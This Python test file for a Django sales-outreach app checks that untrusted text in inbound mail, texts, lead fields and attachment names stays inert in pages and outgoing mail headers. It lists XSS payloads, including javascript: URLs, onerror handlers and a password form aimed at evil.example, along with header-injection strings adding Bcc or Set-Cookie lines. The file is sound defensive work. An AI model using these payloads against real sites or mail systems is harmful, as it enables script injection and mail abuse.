"""Markup and line breaks from outside: in a received mail, a name, a subject, a file name. Nothing
of it becomes a tag, an attribute that acts, or a header of its own, in any page or mail."""

from collections.abc import Iterator
from datetime import timedelta
from email import message_from_bytes, policy
from email.message import EmailMessage
from html.parser import HTMLParser
from typing import Any

import pytest
from django.db import connection
from django.utils import timezone

from leads.models import Lead
from outreach.models import Attachment, InboundMessage, Mailbox, Touch
from outreach.services import polling, sending, texts_inbound
from outreach.services.transports import transport_for
from outreach.tests.fault_world import TUESDAY, approve
from outreach.tests.mails import mail
from outreach.tests.texts import came, mobile

PAYLOADS = (
    "<script>pwn()</script>",
    "<img src=x onerror=pwn()>",
    "<svg/onload=pwn()>",
    "<iframe src=javascript:pwn()></iframe>",
    "<a href=javascript:pwn()>click pwn</a>",
    "<a href='jav&#x09;ascript:pwn()'>click pwn</a>",
    "<img src='https://evil.example/pwn.gif' width=1 height=1>",
    "<link rel=stylesheet href=https://evil.example/pwn.css>",
    "<style>@import 'https://evil.example/pwn';</style>",
    "<div style=\"background:url('https://evil.example/pwn')\">pwn</div>",
    "<base href=https://evil.example/pwn/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/pwn'>",
    "<form action=https://evil.example/pwn><input name=password></form>",
    "<object data=https://evil.example/pwn></object><embed src=https://evil.example/pwn>",
    "<math><mtext><mglyph><style><img src=x onerror=pwn()></style></mglyph></mtext></math>",
    '"><svg><script>pwn()</script>',
    "</textarea></title></style></script><script>pwn()</script>",
    "{{ 7|pwn }}{% load pwn %}",
    "<!--><img src=x onerror=pwn()>-->",
    "\u202e<script>pwn()</script>",
)
INERT = {"value", "title", "aria-label", "datetime", "alt", "placeholder"}


class Marks(HTMLParser):
    """What of the page a browser acts on that has the payload's words in it."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self._inside: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name not in INERT and ("pwn" in (value or "") or "evil.example" in (value or "")):
                self.found.append(f"<{tag} {name}={value}>")
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.found.append(f"<{tag} {name}={value}>")
        if tag in ("script", "style", "iframe", "object", "embed", "base", "math"):
            self._inside.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag in self._inside:
            self._inside.remove(tag)

    def handle_data(self, data: str) -> None:
        if self._inside and "pwn" in data:
            self.found.append(f"{self._inside}: {data[:60]}")


def acts(page: str) -> list[str]:
    marks = Marks()
    marks.feed(page.replace("<!-->", ""))  # a whole comment to a browser, not to this parser
    return marks.found


def test_the_look_finds_what_it_is_to_find() -> None:
    """Markup that is put in as it is would be noticed; words of a template are none in a page."""
    missed = [payload for payload in PAYLOADS if not acts(f"<p>{payload}</p>")]
    assert missed == ["{{ 7|pwn }}{% load pwn %}"]


@pytest.fixture
def box(mailbox: Mailbox, workspace: Any) -> Mailbox:
    Mailbox.objects.update(poll_from=timezone.now() - timedelta(hours=1), min_gap=0)
    mailbox.refresh_from_db()
    return mailbox


def html_mail(payload: str, sender: str) -> bytes:
    """The payload everywhere a mail can carry it: name, subject, both texts, a file's name."""
    message = EmailMessage(policy=policy.SMTP)
    message["From"] = "x@x.example"
    message["To"] = "jonas@halden.example"
    message["Subject"] = "subject"
    message["Message-ID"] = "<markup@polna.example>"
    message.set_content(f"Tuesday. {payload}")
    message.add_alternative(f"<p>Tuesday.</p>{payload}", subtype="html")
    message.add_attachment(b"x", maintype="image", subtype="png", filename="name.png")
    encoded = payload.encode().hex(" ").replace(" ", "=").upper()
    word = f"=?utf-8?Q?={encoded}?="
    content = message.as_bytes()
    content = content.replace(b"From: x@x.example", f"From: {word} <{sender}>".encode())
    content = content.replace(b"Subject: subject", f"Subject: {word}".encode())
    quoted = payload.replace("\\", "\\\\").replace('"', '\\"')
    return content.replace(b'"name.png"', f'"{quoted}.png"'.encode())


def pages(lead: Lead, client: Any) -> Iterator[tuple[str, str]]:
    paths = [f"/leads/{lead.pk}/", "/today/", "/inbound/", "/approvals/", "/leads/"]
    paths += [f"/leads/{lead.pk}/compose/"]
    paths += [f"/inbound/{row.pk}/" for row in InboundMessage.objects.all()]
    for path in paths:
        response = client.get(path)
        assert response.status_code in (200, 302, 405), path
        yield path, response.content.decode()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_mail_of_a_lead_and_of_a_stranger_stay_words(
    payload: str, box: Mailbox, lead: Any, rep: Any, as_user: Any
) -> None:
    transport: Any = transport_for(box)
    transport.deliver(html_mail(payload, lead.email))
    other = html_mail(payload, "ceo@polna.example").replace(b"<markup@", b"<markup2@")
    transport.deliver(other)
    assert polling.poll(box) == 2
    assert set(InboundMessage.objects.values_list("state", flat=True)) == {"threaded", "unmatched"}
    shown = dict(pages(lead, as_user(rep)))
    assert {path: found for path, page in shown.items() if (found := acts(page))} == {}
    assert "Tuesday." in shown[f"/leads/{lead.pk}/"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_and_a_name_stay_words(payload: str, lead: Any, owner: Any, as_user: Any) -> None:
    texts_inbound.receive(came(f"Yes {payload}", sender=mobile(lead).phone, name=payload))
    stranger = "+48501999888"
    texts_inbound.receive(came(f"Hi {payload}", 2, sender=stranger, name=payload))
    Lead.objects.filter(pk=lead.pk).update(
        first_name=payload, company_name=payload, title=payload, city=payload
    )
    shown = dict(pages(lead, as_user(owner)))
    assert {path: found for path, page in shown.items() if (found := acts(page))} == {}


# --- headers ---

BREAKS = (
    "Hi\r\nBcc: pwn@evil.example",
    "Hi\nBcc: pwn@evil.example",
    "Hi\r\n\r\n<script>pwn()</script>",
    "Hi\rBcc: pwn@evil.example",
    "Hi\x0bBcc: pwn@evil.example",
    "Hi\u2028Bcc: pwn@evil.example",
    "Hi\x85Bcc: pwn@evil.example",
    "Hi\x00Bcc: pwn@evil.example",
    "Hi =?utf-8?Q?=0D=0ABcc:_pwn@evil.example?=",
)


def sent_mail(box: Mailbox) -> bytes:
    transport: Any = transport_for(box)
    (path,) = (transport.folder() / "sent").iterdir()
    return bytes(path.read_bytes())


@pytest.mark.parametrize("words", BREAKS)
def test_line_breaks_make_no_header(
    words: str, box: Mailbox, lead: Any, workspace: Any, rep: Any
) -> None:
    """In our name, the subject, the workspace's name and address, what a lead told us."""
    if "\x00" in words and connection.vendor == "postgresql":
        pytest.skip("PostgreSQL takes no NUL into a text")
    Mailbox.objects.update(from_name=words)
    Lead.objects.filter(pk=lead.pk).update(first_name=words, basis_source=words)
    type(workspace).objects.update(name=words, postal_address=words)
    box.refresh_from_db()
    lead.refresh_from_db()
    ids = f"<a@b.example>\r\n{words}"
    approve(lead, box, subject=words, in_reply_to=ids, references=ids)
    assert sending.send_due(TUESDAY).sent == 1
    head = sent_mail(box).partition(b"\r\n\r\n")[0]
    allowed = {
        "from", "to", "subject", "date", "message-id", "mime-version", "content-type",
        "in-reply-to", "references", "list-unsubscribe", "list-unsubscribe-post", "list-id",
        "auto-submitted",
    }  # fmt: skip
    parsed = message_from_bytes(sent_mail(box), policy=policy.default)
    assert {name.lower() for name in parsed} <= allowed
    assert parsed["to"].addresses[0].addr_spec == lead.email and len(parsed["to"].addresses) == 1
    assert parsed["from"].addresses[0].addr_spec == box.address
    assert not any(line.lower().startswith((b"bcc", b"<script")) for line in head.splitlines())


@pytest.mark.parametrize("address", ["a@b.example\r\nBcc: pwn@evil.example", "a@b.example, c@d.e"])
def test_an_address_that_is_two_lines_or_two_is_refused(
    address: str, box: Mailbox, lead: Any
) -> None:
    touch = approve(lead, box, to_address=address)
    assert sending.send_due(TUESDAY).sent == 0
    touch.refresh_from_db()
    transport: Any = transport_for(box)
    assert touch.state != "sent" and not list((transport.folder() / "sent").iterdir())


def test_a_received_header_with_breaks_does_not_come_back_in_ours(
    box: Mailbox, lead: Any, rep: Any, as_user: Any
) -> None:
    """Folded ids and an encoded subject, answered from the composer."""
    folded = "<a@polna.example>\r\n Bcc: pwn@evil.example\r\n <b@polna.example>"
    content = mail(
        "Yes?", References=folded, subject="=?utf-8?Q?Hi=0D=0ABcc:_pwn@evil.example?=",
        message_id="<c@polna.example>",
    )  # fmt: skip
    transport: Any = transport_for(box)
    transport.deliver(content)
    polling.poll(box)
    from outreach.services import approval, composing, replying
    from outreach.services import policy as rules

    lead.refresh_from_db()
    answer = replying.reply_to(lead)
    assert answer is not None and answer.inbound
    touch = composing.compose(
        lead, user=rep, channel="email", subject=answer.subject, body="Tuesday at ten?",
        kind=Touch.Kind.REPLY,
    )  # fmt: skip
    ids = f"{answer.references} {answer.message_id}"
    Touch.objects.filter(pk=touch.pk).update(in_reply_to=answer.message_id, references=ids)
    touch.refresh_from_db()
    approval.approve(touch, user=rep, seen_hash=rules.text_hash(touch))
    assert sending.send_due(timezone.now() + timedelta(minutes=5)).sent == 1
    parsed = message_from_bytes(sent_mail(box), policy=policy.default)
    assert "bcc" not in {name.lower() for name in parsed}
    assert parsed["in-reply-to"] == "<c@polna.example>"


@pytest.mark.parametrize("name", ['a"\r\nSet-Cookie: pwn=1.pdf', "a;filename=pwn.html", "…/../x"])
def test_a_file_name_makes_no_header(
    name: str, box: Mailbox, lead: Any, rep: Any, as_user: Any, settings: Any
) -> None:
    folder = settings.DATA_DIR / "attachments"
    folder.mkdir()
    (folder / "one").write_bytes(b"<script>pwn()</script>")
    touch = approve(lead, box)
    file = Attachment.objects.create(
        touch=touch, name=name, content_type="text/html", size=22, path="one"
    )
    response = as_user(rep).get(f"/attachments/{file.pk}/")
    assert response.status_code == 200 and "pwn" not in str(response.cookies)
    assert response["Content-Disposition"].startswith("attachment")
    assert "\n" not in response["Content-Disposition"] and "Set-Cookie" not in response.headers
    assert response["X-Content-Type-Options"] == "nosniff"
